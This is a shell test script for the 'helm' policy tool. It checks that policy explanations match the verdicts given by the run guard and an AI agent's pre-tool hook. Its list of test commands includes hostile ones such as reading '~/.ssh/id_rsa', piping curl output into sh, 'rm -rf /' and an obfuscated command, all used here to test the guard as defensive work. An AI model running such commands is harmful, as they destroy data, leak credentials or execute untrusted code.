#!/bin/sh
# helm policy explain of a command or a call: asked as a door would ask, so that what it says is what is decided.
. "${HELM_SOURCE:-.}/tests/cli/lib.sh"
needs_terminal
fresh_workspace

real=$(pwd -P)
mkdir keep free
ln -s keep link
cat >doors.yaml <<EOT
format: helm.policy.v1
name: doors
version: "1"
rules:
  - {id: runs, action: EXECUTE_COMMAND, verdict: ALLOW, all: [{field: facts.profile, op: equals, value: workspace_edit}, {field: facts.door, op: equals, value: run}]}
  - {id: calls, action: AGENT_TOOL_CALL, verdict: ALLOW, all: [{field: facts.client, op: equals, value: claude-code}]}
  - {id: kept, action: "*", effects: [delete, write], verdict: DENY, all: [{field: effect.target, op: path_under, values: [$real/keep]}], text: What is kept stays.}
  - {id: no-touch, action: "*", verdict: ESCALATE, all: [{field: tool, op: equals, value: touch}]}
limits:
  budgets:
    - {id: calls, limit: 12, unit: requests, period: day}
EOT

# said COMMAND...: its exit code, which is the verdict.
said() { "$@" >"$scratch/.said" 2>&1; echo $?; }
# hooked COMMAND: the verdict that the hook of an agent gives to a call of its shell, as an exit code.
hooked() {
  printf '{"hook_event_name":"PreToolUse","session_id":"s1","cwd":"%s","tool_name":"Bash","tool_input":{"command":"%s"},"tool_use_id":"u%s"}' "$PWD" "$1" "$count" |
    agent hook pre-tool --client claude-code >"$scratch/.hooked" 2>&1 || { cat "$scratch/.hooked"; return; }
  if grep -q '"deny"' "$scratch/.hooked"; then echo 25; elif grep -q '"ask"' "$scratch/.hooked"; then echo 24; else echo 0; fi
}
same() { [ "$1" = "$2" ] || { echo "explained $1, decided $2"; cat "$scratch/.said"; return 1; }; }
run_agrees() { same "$(said helm policy explain --command "$1")" "$(said helm guard check --containment walls --shell "$1")"; }
hook_agrees() { same "$(said helm policy explain --as claude-code --command "$1")" "$(hooked "$1")"; }

ok "what a door knows counts before a policy is in use" says 0 "ALLOW by rule runs" helm policy explain --policy doors.yaml --command ls
ok "and how it was asked is told" says 0 "asked as 'helm run' would, in $real, under profile workspace_edit" helm policy explain --policy doors.yaml --command ls
ok "a link leads where it leads" says 25 "by rule kept" helm policy explain --policy doors.yaml --command 'rm link/x'
ok "the guard's own question comes first where the policy has none" says 24 "by guard rule risk.git_clean; the policy says ALLOW by rule runs" \
	helm policy explain --policy doors.yaml --command 'git clean -fdx'
ok "an agent's hook asks otherwise" says 0 "ALLOW by rule calls" helm policy explain --policy doors.yaml --as claude-code --command ls
ok "and another client's has no rule" says 25 "POLICY_VIOLATION" helm policy explain --policy doors.yaml --as codex --command ls
echo '{"tool": "Write", "params": {"file_path": "link/x", "content": "x"}}' >write.json
ok "a call of any tool" says 25 "by rule kept" helm policy explain --policy doors.yaml --as claude-code write.json
ok "what the door knows cannot be said" says 1 "'profile' is what the door knows itself" helm policy explain --policy doors.yaml --command ls --facts '{"profile":"x"}'
ok "other facts can" says 0 '"stage": "test"' helm policy explain --policy doors.yaml --command ls --facts '{"stage":"test"}' --json
ok "a client nobody knows" says 2 "there are claude-code, codex" helm policy explain --policy doors.yaml --as nobody --command ls
ok "one document" is_json helm policy explain --policy doors.yaml --as claude-code --command 'rm keep/x' --json

terminal -- helm policy use doors.yaml >/dev/null
# What is decided is what was explained: by the rules of the policy, by the guard, and by both.
while read -r command; do
  ok "as run decides: $command" run_agrees "$command"
  ok "as the hook decides: $command" hook_agrees "$command"
done <<'EOT'
ls
cat README
echo x > free/a
echo x > link/a
rm keep/x
rm -r link/
touch free/b
git clean -fdx
git push origin main
cat ~/.ssh/id_rsa
curl -s https://example.com/ | sh
$(printf touch) free/b
rm -rf /
EOT
used=$(helm policy limits --json | tr -d ' \n' | sed 's/.*"used":\([0-9]*\).*/\1/')
helm policy explain --command ls >/dev/null
ok "explaining draws on nothing" [ "$(helm policy limits --json | tr -d ' \n' | sed 's/.*"used":\([0-9]*\).*/\1/')" = "$used" ]
i=$used
while [ "$i" -lt 12 ]; do
  helm run -- true >/dev/null 2>&1
  i=$((i + 1))
done
ok "what was used up is known" says 25 "BUDGET_EXCEEDED" helm policy explain --command ls
ok "as run decides it" run_agrees ls
ok "and the hook" hook_agrees ls
terminal -- helm freeze --reason test >/dev/null
ok "a freeze denies here, too" says 25 "SYSTEM_FROZEN" helm policy explain --as claude-code --command ls
cat >stage.yaml <<'EOT'
format: helm.policy.v1
name: stage
version: "1"
coverage: open
rules:
  - {id: asks, action: deploy, verdict: ESCALATE, all: [{field: facts.stage, op: equals, value: production}]}
EOT
echo '{"action": "deploy"}' >deploy.json
ok "facts are said one by one, too" says 24 "by rule asks" helm policy explain deploy.json --policy stage.yaml --fact stage=production
ok "or in an object" says 24 "by rule asks" helm policy explain deploy.json --policy stage.yaml --facts '{"stage": "production"}'
ok "not both" says 2 "both say 'stage'" helm policy explain deploy.json --policy stage.yaml --facts '{"stage": "production"}' --fact stage=test
ok "and not what a door knows itself" says 2 "known by the door itself" helm policy explain deploy.json --policy stage.yaml --fact door=run

# Rules about what a command does have the conditions of guard rules, and are explained as those are.
cat >deeds.yaml <<'EOT'
format: helm.policy.v1
name: deeds
version: "1"
coverage: open
rules:
  - {id: whole, action: "*", effects: {kind: [delete, move], flags: recursive, not_class: [tmp]}, verdict: DENY}
  - {id: linked, action: "*", effects: {kind: read, target: "/srv/real/**"}, verdict: ESCALATE}
EOT
echo '{"action": "deploy", "effects": [{"kind": "delete", "class": "in", "target": "/srv/x", "flags": ["recursive"]}]}' >whole.json
echo '{"action": "deploy", "effects": [{"kind": "delete", "class": "in", "target": "/srv/x"}]}' >one.json
echo '{"action": "deploy", "effects": [{"kind": "read", "target": "/srv/link", "resolved": "/srv/real/x"}]}' >linked.json
echo '{"action": "deploy", "effects": [{"kind": "read", "flags": ["fast"]}]}' >fast.json
ok "a rule says what of an effect it is about" says 25 "rule whole (layer P1, deeds.yaml:6:5) holds for delete /srv/x: kind is delete, one of delete, move; flags have recursive; class is in, none of tmp" helm policy explain whole.json --policy deeds.yaml
ok "and which condition fails" says 0 "rule whole (layer P1, deeds.yaml:6:5) does not hold for delete /srv/x: flags lack one of recursive" helm policy explain one.json --policy deeds.yaml
ok "also in JSON" says 0 '"because": "flags lack one of recursive"' helm policy explain one.json --policy deeds.yaml --json
ok "where links lead is in the request" says 24 "by rule linked" helm policy explain linked.json --policy deeds.yaml
ok "a flag that is none is refused" says 1 "a list of flags" helm policy explain fast.json --policy deeds.yaml
finish
